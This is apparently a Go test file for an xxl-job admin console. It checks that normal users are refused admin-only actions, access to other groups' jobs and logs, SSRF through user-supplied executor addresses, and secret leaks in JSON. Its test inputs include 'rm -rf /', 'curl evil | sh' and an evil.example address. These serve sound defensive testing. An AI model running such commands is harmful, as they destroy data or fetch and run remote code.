package console_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/xxl-admin-go/xxl-admin-go/compat/executor/executortest"
	"github.com/xxl-admin-go/xxl-admin-go/schema"
)

// permBundle is a database with two executor groups, a job in each, and a normal
// user "alice" permitted on the first group only (admin-http.md §4).
type permBundle struct {
	*testBundle
	alice              *client
	mine, other        int // group ids
	myJob, otherJob    int
	myLog, otherLog    int64
	aliceID, bobID     int
	myExec, otherExec  *executortest.Executor
	denied, adminsOnly string
}

func setupPerm(t *testing.T, layout schema.LayoutName) *permBundle {
	b := setup(t, layout)
	p := &permBundle{testBundle: b, denied: "You have no permission for this operation", adminsOnly: "Only administrators can do this"}
	p.myExec = b.executor(t, executortest.KindJava342)
	p.otherExec = b.executor(t, executortest.KindJava342)
	p.mine = b.group(t, "alice-group", p.myExec.Address())
	p.other = b.group(t, "other-group", p.otherExec.Address())
	p.myJob = b.job(t, p.mine, "mine")
	p.otherJob = b.job(t, p.other, "other")
	p.myLog = b.log(t, p.mine, p.myJob, p.myExec.Address())
	p.otherLog = b.log(t, p.other, p.otherJob, p.otherExec.Address())
	p.aliceID = b.user(t, "alice", "alicepw", 0, itoa(p.mine))
	p.bobID = b.user(t, "bobby", "bobbypw", 0, "")
	if layout == schema.Layout24 {
		p.alice = b.login2(t, "alice", "alicepw")
	} else {
		p.alice = b.login3(t, "alice", "alicepw")
	}
	return p
}

// A normal user cannot change GLUE code: not through the GLUE IDE, and not by
// creating a GLUE job (GLUE code runs on the executors' machines).
func TestPermissionGlueAdminOnly(t *testing.T) {
	t.Parallel()
	for _, layout := range layouts {
		t.Run(string(layout), func(t *testing.T) {
			t.Parallel()
			p := setupPerm(t, layout)
			msg := p.alice.refused("/jobcode/save", form("id", itoa(p.myJob), "glueSource", "rm -rf /", "glueRemark", "evil change"))
			require.Equal(t, "Only administrators can create or change GLUE code", msg)
			require.Equal(t, 0, p.db.Count(t, "xxl_job_logglue", ""))
			j, err := p.store.LoadJob(context.Background(), p.myJob)
			require.NoError(t, err)
			require.Empty(t, j.GlueSource)

			add := jobForm(p.mine)
			add.Set("glueType", "GLUE_SHELL")
			add.Set("glueSource", "curl evil | sh")
			require.Equal(t, "Only administrators can create or change GLUE code", p.alice.refused(jobAddPath(layout), add))
			require.Equal(t, 0, p.db.Count(t, "xxl_job_info", "glue_type = 'GLUE_SHELL'"))

			// A BEAN job a normal user creates carries no code either.
			add = jobForm(p.mine)
			add.Set("glueSource", "ignored")
			p.alice.ok(jobAddPath(layout), add)
			require.Equal(t, 0, p.db.Count(t, "xxl_job_info", "glue_source = 'ignored'"))
		})
	}
}

// A normal user cannot list, create, change or delete users, and cannot change
// executor groups (admin-only since 2.4.0, CVE-2022-36157); loading a group is limited
// to the user's own groups.
func TestPermissionAdminOnly(t *testing.T) {
	t.Parallel()
	for _, layout := range layouts {
		t.Run(string(layout), func(t *testing.T) {
			t.Parallel()
			p := setupPerm(t, layout)
			a := p.alice
			for _, call := range []struct {
				path string
				form []string
			}{
				{"/user/pageList", nil},
				{"/user/add", []string{"username", "mallory", "password", "mallory1", "role", "1"}},
				{"/user/insert", []string{"username", "mallory", "password", "mallory1", "role", "1"}},
				{"/user/update", []string{"id", itoa(p.bobID), "username", "bobby", "role", "1"}},
				{"/user/update", []string{"id", itoa(p.aliceID), "username", "alice", "role", "1"}},
				{"/user/remove", []string{"id", "1"}},
				{"/user/delete", []string{"ids[]", "1"}},
				{"/jobgroup/pageList", nil},
				{"/jobgroup/save", []string{"appname", "evil-app", "title", "evil", "addressType", "0"}},
				{"/jobgroup/insert", []string{"appname", "evil-app", "title", "evil", "addressType", "0"}},
				{"/jobgroup/update", []string{"id", itoa(p.mine), "appname", "alice-group", "title", "x", "addressType", "1", "addressList", "http://evil.example:9999/"}},
				{"/jobgroup/remove", []string{"id", itoa(p.other)}},
				{"/jobgroup/delete", []string{"ids[]", itoa(p.other)}},
			} {
				require.Equal(t, p.adminsOnly, a.refused(call.path, form(call.form...)), call.path)
			}
			require.Equal(t, 0, p.db.Count(t, "xxl_job_user", "username = 'mallory' OR role = 1 AND username <> 'admin'"))
			require.Equal(t, 3, p.db.Count(t, "xxl_job_user", ""))
			require.Equal(t, 3, p.db.Count(t, "xxl_job_group", ""))
			require.Equal(t, 0, p.db.Count(t, "xxl_job_group", "address_list LIKE '%evil%'"))

			require.Equal(t, p.denied, a.refused("/jobgroup/loadById", form("id", itoa(p.other))))
			a.ok("/jobgroup/loadById", form("id", itoa(p.mine)))
		})
	}
}

// A normal user can neither read nor change another group's jobs, nor move one into
// their own group, nor name one as a child job.
func TestPermissionOtherGroupJobs(t *testing.T) {
	t.Parallel()
	for _, layout := range layouts {
		t.Run(string(layout), func(t *testing.T) {
			t.Parallel()
			p := setupPerm(t, layout)
			a := p.alice

			// Listing: another group is refused; "all groups" means the user's own.
			r := a.post("/jobinfo/pageList", form("start", "0", "length", "10", "jobGroup", itoa(p.other)))
			require.Equal(t, p.denied, r.env(t).msg())
			r = a.post("/jobinfo/pageList", form("start", "0", "length", "100", "jobGroup", "-1"))
			var page struct {
				Total int `json:"recordsTotal"`
				Data  []struct {
					ID int `json:"id"`
				} `json:"data"`
			}
			require.NoError(t, json.Unmarshal(r.body, &page))
			require.Equal(t, 1, page.Total)
			require.Equal(t, p.myJob, page.Data[0].ID)
			require.Equal(t, p.denied, a.refused("/joblog/getJobsByGroup", form("jobGroup", itoa(p.other))))

			other := form("id", itoa(p.otherJob))
			for _, path := range []string{"/jobinfo/remove", "/jobinfo/start", "/jobinfo/stop", "/jobinfo/trigger"} {
				require.Equal(t, p.denied, a.refused(path, other), path)
			}
			require.Equal(t, p.denied, a.refused("/jobinfo/delete", form("ids[]", itoa(p.otherJob))))
			// Taking over: the posted group is the user's, the stored one is not.
			upd := jobForm(p.mine)
			upd.Set("id", itoa(p.otherJob))
			require.Equal(t, p.denied, a.refused("/jobinfo/update", upd))
			require.Equal(t, p.denied, a.refused(jobAddPath(layout), jobForm(p.other)))
			withChild := jobForm(p.mine)
			withChild.Set("childJobId", itoa(p.otherJob))
			require.Equal(t, p.denied, a.refused(jobAddPath(layout), withChild))

			j, err := p.store.LoadJob(context.Background(), p.otherJob)
			require.NoError(t, err)
			require.Equal(t, p.other, j.JobGroup)
			require.Equal(t, 0, j.TriggerStatus)
			require.Empty(t, p.otherExec.CallsTo(executortest.EndpointRun), "nothing was triggered")

			// Own jobs work.
			a.ok("/jobinfo/start", form("id", itoa(p.myJob)))
			a.ok("/jobinfo/stop", form("id", itoa(p.myJob)))
		})
	}
}

// A normal user can neither read nor clear another group's logs, including by
// pairing a permitted group with another group's job id (the 2.4.2 filter hole), nor
// read or kill them through logDetailCat/logKill.
func TestPermissionOtherGroupLogs(t *testing.T) {
	t.Parallel()
	for _, layout := range layouts {
		t.Run(string(layout), func(t *testing.T) {
			t.Parallel()
			p := setupPerm(t, layout)
			a := p.alice
			require.Equal(t, p.denied, a.post("/joblog/pageList", form("jobGroup", itoa(p.other))).env(t).msg())
			require.Equal(t, p.denied, a.post("/joblog/pageList", form("jobGroup", itoa(p.mine), "jobId", itoa(p.otherJob))).env(t).msg())
			r := a.post("/joblog/pageList", form("start", "0", "length", "100", "jobGroup", "0"))
			var page struct {
				Total int `json:"recordsTotal"`
				Data  []struct {
					ID int64 `json:"id"`
				} `json:"data"`
			}
			require.NoError(t, json.Unmarshal(r.body, &page), "%s", r)
			require.Equal(t, 1, page.Total)
			require.Equal(t, p.myLog, page.Data[0].ID)

			for _, f := range [][]string{
				{"jobGroup", itoa(p.other), "jobId", "0", "type", "9"},
				{"jobGroup", "0", "jobId", "0", "type", "9"},
				{"jobGroup", itoa(p.mine), "jobId", itoa(p.otherJob), "type", "9"},
				{"jobGroup", "0", "jobId", itoa(p.otherJob), "type", "9"},
			} {
				require.Equal(t, p.denied, a.refused("/joblog/clearLog", form(f...)), f)
			}
			require.Equal(t, 2, p.db.Count(t, "xxl_job_log", ""))

			require.Equal(t, p.denied, a.refused("/joblog/logDetailCat", form("logId", i64(p.otherLog), "fromLineNum", "1")))
			require.Equal(t, p.denied, a.refused("/joblog/logKill", form("id", i64(p.otherLog))))
			require.Empty(t, p.otherExec.Calls(), "the other group's executor was never called")

			// Own logs: clearing all of them works and leaves the other group's.
			a.ok("/joblog/clearLog", form("jobGroup", itoa(p.mine), "jobId", "0", "type", "9"))
			require.Equal(t, 1, p.db.Count(t, "xxl_job_log", ""))
		})
	}
}

// logDetailCat and logKill call only the address stored in the log row: a
// client-supplied executorAddress (2.3.1's SSRF) is ignored, and "trigger once" with a
// typed address list reaches only addresses of the job's group for normal users, so the
// access token never goes to an address a user typed.
func TestNoSSRF(t *testing.T) {
	t.Parallel()
	for _, layout := range layouts {
		t.Run(string(layout), func(t *testing.T) {
			t.Parallel()
			p := setupPerm(t, layout)
			var hits atomic.Int32
			var leaked atomic.Value
			trap := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				hits.Add(1)
				leaked.Store(r.Header.Get("XXL-JOB-ACCESS-TOKEN"))
				_, _ = w.Write([]byte(`{"code":200,"msg":null,"content":{"fromLineNum":1,"toLineNum":1,"logContent":"trap","end":true}}`))
			}))
			t.Cleanup(trap.Close)
			p.myExec.SetLog(p.myLog, "line one\n")

			r := p.alice.post("/joblog/logDetailCat", form("logId", i64(p.myLog), "fromLineNum", "1",
				"executorAddress", trap.URL+"/", "triggerTime", "0"))
			require.Equal(t, 200, r.env(t).Code, "%s", r)
			require.Contains(t, string(r.env(t).payload()), "line one")
			require.Len(t, p.myExec.CallsTo(executortest.EndpointLog), 1)

			p.myExec.SetFault(executortest.EndpointKill, executortest.Fault{Code: 500, Msg: "not running"})
			require.Equal(t, "not running", p.alice.refused("/joblog/logKill", form("id", i64(p.myLog), "executorAddress", trap.URL)))
			require.Len(t, p.myExec.CallsTo(executortest.EndpointKill), 1)

			msg := p.alice.refused("/jobinfo/trigger", form("id", itoa(p.myJob), "executorParam", "", "addressList", trap.URL+"/"))
			require.Equal(t, "Address "+trap.URL+"/ is not one of the executor's machines", msg)
			require.Equal(t, 0, p.db.Count(t, "xxl_job_log", "job_id = ? AND id <> ?", p.myJob, p.myLog))
			require.Zero(t, hits.Load(), "the user-typed address was never called (token leaked: %v)", leaked.Load())

			// A machine of the job's group may be named (with or without the slash).
			p.alice.ok("/jobinfo/trigger", form("id", itoa(p.myJob), "executorParam", "", "addressList", strings.TrimSuffix(p.myExec.Address(), "/")))
			require.Len(t, p.myExec.WaitCalls(t, executortest.EndpointRun, 1), 1)
		})
	}
}

// No JSON answer carries a secret: user rows have password and token null, and no
// answer of a whole session contains the stored hash or session token.
func TestNoSecretsInJSON(t *testing.T) {
	t.Parallel()
	for _, layout := range layouts {
		t.Run(string(layout), func(t *testing.T) {
			t.Parallel()
			p := setupPerm(t, layout)
			admin := p.admin(t)
			r := admin.post("/user/pageList", form("start", "0", "length", "10", "username", "", "role", "-1"))
			var page struct {
				Data []json.RawMessage `json:"data"`
			}
			require.NoError(t, json.Unmarshal(r.body, &page))
			require.Len(t, page.Data, 3)
			for _, raw := range page.Data {
				var u map[string]any
				require.NoError(t, json.Unmarshal(raw, &u))
				require.Nil(t, u["password"])
				require.Nil(t, u["token"])
			}
			keys := []string{"id", "username", "password", "role", "permission"}
			if layout == schema.Layout34 {
				keys = []string{"id", "username", "password", "token", "role", "permission"}
			}
			require.Equal(t, keys, jsonKeys(t, page.Data[0]))
			admU, err := p.store.LoadUserByName(context.Background(), "admin")
			require.NoError(t, err)
			aliceU, err := p.store.LoadUserByName(context.Background(), "alice")
			require.NoError(t, err)
			secrets := []string{admU.Password, aliceU.Password}
			if admU.Token != "" {
				secrets = append(secrets, admU.Token, aliceU.Token)
			}
			for _, c := range []*client{admin, p.alice} {
				for _, path := range []string{"/user/pageList", "/jobgroup/pageList", "/jobgroup/loadById?id=" + itoa(p.mine),
					"/jobinfo/pageList", "/joblog/pageList", "/chartInfo", "/auth/logout", "/logout"} {
					r := c.post(path, nil)
					for _, s := range secrets {
						require.NotContains(t, string(r.body), s, path)
					}
				}
			}
		})
	}
}

func i64(n int64) string { return itoa(int(n)) }

func jobAddPath(layout schema.LayoutName) string {
	if layout == schema.Layout24 {
		return "/jobinfo/add"
	}
	return "/jobinfo/insert"
}

// jobForm is a complete BEAN job form for a group.
func jobForm(group int) url.Values {
	return form("jobGroup", itoa(group), "jobDesc", "a job", "author", "ops", "alarmEmail", "",
		"scheduleType", "CRON", "scheduleConf", "0 0 3 * * ?", "misfireStrategy", "DO_NOTHING",
		"executorRouteStrategy", "FIRST", "executorHandler", "demoJobHandler", "executorParam", "",
		"executorBlockStrategy", "SERIAL_EXECUTION", "executorTimeout", "0", "executorFailRetryCount", "0",
		"glueType", "BEAN", "glueSource", "", "glueRemark", "GLUE代码初始化", "childJobId", "")
}
